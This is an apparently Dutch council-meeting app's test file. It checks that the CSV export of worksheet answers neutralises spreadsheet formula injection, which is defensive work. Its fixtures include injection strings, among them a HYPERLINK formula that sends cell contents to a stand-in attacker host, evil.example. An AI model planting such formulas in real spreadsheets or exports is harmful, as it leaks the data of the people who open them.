import { describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/permissions";
import { createCouncilSession } from "@/lib/council-sessions/save-session";
import { db } from "@/lib/db";
import { saveStep } from "@/lib/preparation/save-step";
import { emptyStepData } from "@/lib/preparation/schemas";
import { myWorksheet, saveAnswer } from "@/lib/worksheets/answers";
import { worksheetCsv } from "@/lib/worksheets/csv";
import { controlWorksheet } from "@/lib/worksheets/manage-worksheet";
import { createGemeente, createMember } from "@/tests/support/factories";

// What a spreadsheet program makes of the CSV export: cells that start with
// =, +, -, @, a tab or a carriage return are formulas there (=HYPERLINK(...)
// sends the reader's data elsewhere), so such text must arrive as text.

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(A1)", "\tverborgen", "\r=1+1"];

/** Splits the CSV the way a spreadsheet program reads it (RFC 4180, ";" separated, CRLF rows). */
function cells(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, "");
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && (c === ";" || (c === "\r" && text[i + 1] === "\n"))) {
      rows.at(-1)!.push(cell);
      cell = "";
      if (c === "\r") {
        rows.push([]);
        i++;
      }
    } else {
      cell += c;
    }
  }
  return rows.slice(0, -1);
}

/** A spreadsheet program runs a cell as a formula when it starts with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

async function sessionWithHostileAnswers(anonymous: boolean) {
  const gemeente = await createGemeente();
  const griffier = await createMember(gemeente, "GRIFFIER");
  const raadslid = await createMember(gemeente, "RAADSLID");
  await db().user.update({ where: { id: raadslid.userId }, data: { name: '=HYPERLINK("https://evil.example";"Jan")' } });
  const { id } = await createCouncilSession(griffier, {
    title: "CSV", theme: "jeugdzorg", date: "2027-03-04", time: "19:30", location: "", description: "", facilitatorIds: [], inviteeIds: [raadslid.membershipId],
  });
  await saveStep(griffier, {
    sessionId: id, number: 4, version: 1, status: "BEZIG", nvtReason: "",
    data: { ...emptyStepData(4), question: "Welke rol?", actors: HOSTILE.map((name, i) => ({ id: `a${i}`, name })) },
  });
  if (!anonymous) await controlWorksheet(griffier, { sessionId: id, command: "named" });
  await controlWorksheet(griffier, { sessionId: id, command: "open" });
  const rungs = ["REGULEREN", "REGISSEREN", "STIMULEREN", "FACILITEREN", "LOSLATEN", "REGULEREN"] as const;
  for (const [i, actor] of (await myWorksheet(raadslid, id)).actors.entries()) {
    await saveAnswer(raadslid, id, { actorId: actor.id, rung: rungs[i], motivation: HOSTILE[i], promise: anonymous ? "anonymous" : "named" });
  }
  return { griffier, sessionId: id };
}

async function csvCells(griffier: Actor, sessionId: string) {
  const [header, ...rows] = cells(await worksheetCsv(griffier, sessionId));
  return { header, rows };
}

describe("CSV of worksheet answers in a spreadsheet program", () => {
  it("starts no cell with a formula character: actor names, motivations and names arrive as text, prefixed with a quote", async () => {
    const { griffier, sessionId } = await sessionWithHostileAnswers(false);
    const { header, rows } = await csvCells(griffier, sessionId);
    expect(header).toEqual(["actor", "trede", "toelichting", "raadslid", "nu", "groep", "aantal"]);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_START);
    // The text itself is kept, behind the quote a spreadsheet hides.
    expect(rows.map((r) => r[2]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    expect(rows.map((r) => r[3])).toContain(`'=HYPERLINK("https://evil.example";"Jan")`);
  });

  it("names each rung as the ladder does (Reguleren … Loslaten), not by its code", async () => {
    const { griffier, sessionId } = await sessionWithHostileAnswers(false);
    const { rows } = await csvCells(griffier, sessionId);
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(["Reguleren", "Regisseren", "Stimuleren", "Faciliteren", "Loslaten"]));
  });

  it("the anonymous export (published counts) escapes hostile actor names too", async () => {
    const { griffier, sessionId } = await sessionWithHostileAnswers(true);
    const { header, rows } = await csvCells(griffier, sessionId);
    expect(header).toEqual(["actor", "trede", "aantal", "toelichting", "groep", "aantal nu"]);
    // Actor names are stored trimmed (step 4); what is left of each arrives as text.
    expect(rows.map((r) => r[0].replace(/^'/, ""))).toEqual(HOSTILE.map((h) => h.trim()));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});
